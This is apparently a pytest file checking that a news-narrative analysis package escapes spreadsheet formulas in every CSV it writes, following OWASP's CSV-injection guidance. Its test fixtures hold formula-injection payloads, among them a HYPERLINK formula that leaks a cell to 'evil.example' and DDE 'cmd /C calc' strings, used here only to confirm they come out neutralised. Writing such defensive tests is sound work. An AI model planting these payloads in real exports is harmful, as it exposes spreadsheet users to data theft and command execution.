"""CSV files hold no formula a spreadsheet would run (issue 24, case 10).

Outlet and narrative names come from the input and the codebook; a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'`` (OWASP's guidance
on CSV injection), so it stays readable and is shown as text; numbers stay numbers. Every CSV the
package writes goes through :func:`narrative.io.write_csv`.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pandas as pd
import pytest

from . import tiny_run

#: What a spreadsheet reads as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: Names a spreadsheet would run (the first four from OWASP's examples).
HOSTILE_OUTLETS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
                   "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
HOSTILE_LABELS = ("=1+1", "@evil(A1)")


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _assert_no_formula(path: Path) -> None:
    for row in _cells(path):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path.name, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(1)", "'=HYPERLINK(1)"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    (-2.5, -2.5), (-3, -3), (None, None),
])
def test_csv_safe_prefixes_formula_text_only(value, written):
    from narrative.io import csv_safe

    assert csv_safe(value) == written


def test_write_csv_guards_text_and_keeps_negative_numbers(tmp_path):
    from narrative.io import write_csv

    frame = pd.DataFrame({
        "outlet": HOSTILE_OUTLETS + ["\tTabbed", "Plain Outlet"],
        "magnitude": [-0.25, 0.5, -1.0, 2.0, -3.5, 0.0],
        "count": [-1, 2, 3, -4, 5, 6],
        "mixed": ["=x", -7, 1.5, "ok", None, "+y"],
    })
    path = write_csv(tmp_path / "t.csv", frame, float_format="%.4f")
    _assert_no_formula(path)
    back = pd.read_csv(path, keep_default_na=False)
    assert back["outlet"].tolist() == ["'" + o for o in HOSTILE_OUTLETS] + ["'\tTabbed", "Plain Outlet"]
    assert back["magnitude"].tolist() == [-0.25, 0.5, -1.0, 2.0, -3.5, 0.0]  # numbers, unquoted
    assert back["count"].tolist() == [-1, 2, 3, -4, 5, 6]
    assert back["mixed"].tolist() == ["'=x", "-7", "1.5", "ok", "", "'+y"]
    assert "-0.2500" in path.read_text().splitlines()[1]


def test_write_csv_guards_column_names(tmp_path):
    from narrative.io import write_csv

    path = write_csv(tmp_path / "wide.csv", pd.DataFrame({"period": ["2025-01-06"], "=cmd": [0.5]}))
    assert _cells(path)[0] == ["period", "'=cmd"]


@pytest.fixture(scope="module")
def drift_files(tmp_path_factory):
    """The drift CSVs (export_tables) for a real store whose outlets and narratives carry hostile names."""
    from narrative.drift import compute_drift
    from narrative.export import export_tables as write_drift
    from narrative.store import Store

    folder = tmp_path_factory.mktemp("hostile")
    store = tiny_run.build_store(folder, tiny_run.records(HOSTILE_OUTLETS), labels=HOSTILE_LABELS)
    with Store(store, read_only=True) as st:
        paths = write_drift(compute_drift(st, "run1", settings=tiny_run.settings()), folder / "out")
    return paths


def test_every_drift_csv_holds_no_formula(drift_files):
    assert {"shares", "coverage", "framing", "outlet_comparison"} <= set(drift_files)
    for path in drift_files.values():
        _assert_no_formula(path)


@pytest.mark.parametrize("name", ["shares", "coverage", "outlet_comparison"])
def test_hostile_outlet_names_read_back_guarded_and_readable(drift_files, name):
    written = {cell for row in _cells(drift_files[name]) for cell in row}
    for outlet in HOSTILE_OUTLETS:
        assert "'" + outlet in written, (name, outlet)
        assert outlet not in written


def test_hostile_narrative_names_read_back_guarded_and_shares_stay_numbers(drift_files):
    shares = pd.read_csv(drift_files["shares"])
    assert set(shares["narrative"]) == {"'=1+1", "'@evil(A1)", "unassigned"}
    assert pd.api.types.is_float_dtype(shares["share"])
    assert shares["share"].between(0, 1).all()


def test_truth_csv_of_the_demo_corpus_is_guarded(tmp_path):
    from narrative.sample import DemoCorpus, write_demo_corpus

    truth = pd.DataFrame({"outlet": ["=evil()"], "period": [dt.date(2025, 6, 2).isoformat()],
                          "narrative": ["+calc"], "planted_share": [0.5], "realized_share": [-0.0],
                          "n_paragraphs": [4]})
    _, path = write_demo_corpus(DemoCorpus(articles=[], truth=truth, changepoints=pd.DataFrame()),
                                tmp_path)
    assert _cells(path)[1][:3] == ["'=evil()", "2025-06-02", "'+calc"]
    _assert_no_formula(path)
